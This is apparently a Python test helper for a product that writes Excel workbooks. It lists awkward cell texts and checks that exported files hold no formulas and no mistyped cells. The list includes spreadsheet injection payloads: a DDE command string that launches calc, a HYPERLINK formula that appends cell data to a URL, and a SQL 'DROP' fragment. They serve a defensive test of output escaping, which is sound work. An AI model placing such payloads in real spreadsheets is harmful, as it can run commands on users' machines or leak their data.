"""Awkward texts, and what a reader finds in a workbook, for the tests of every workbook that the product writes."""

from __future__ import annotations

from datetime import datetime, timedelta
from io import BytesIO
from zipfile import ZipFile

from openpyxl import load_workbook

AWKWARD = (
    '=HYPERLINK("http://127.0.0.1/?"&A1,"xem")',
    "=1+1",
    "+84 219 000 001",
    "-cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "'=1+1",
    "{=1+1}",
    "00715",
    "1E5",
    "30/11",
    "TRUE",
    "#N/A",
    "#REF!",
    "<b>&amp;</b>",
    '"; DROP',
    "  hai bên  ",
    "Xã Lũng Cú: Đồng Văn",
)
"""Texts that a spreadsheet takes for something else when it may: formulas, numbers, dates, errors, markup."""


def cells(content: bytes) -> dict[str, list[list[object]]]:
    """Return sheet → rows of a workbook; fails where any cell is neither text, number nor time, or the file holds a formula."""
    book = load_workbook(BytesIO(content))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                expected = {str: "s", datetime: "d", timedelta: "d"}.get(type(cell.value), "n")
                assert (sheet.title, cell.coordinate, expected) == (sheet.title, cell.coordinate, cell.data_type)
    with ZipFile(BytesIO(content)) as parts:
        xml = [parts.read(name).decode() for name in parts.namelist() if name.startswith("xl/worksheets/")]
    assert [] == [part for part in xml if "<f>" in part or "<f " in part]
    return {sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()] for sheet in book}


def texts(content: bytes) -> set[str]:
    """Return every text of a workbook."""
    return {value for rows in cells(content).values() for row in rows for value in row if isinstance(value, str)}
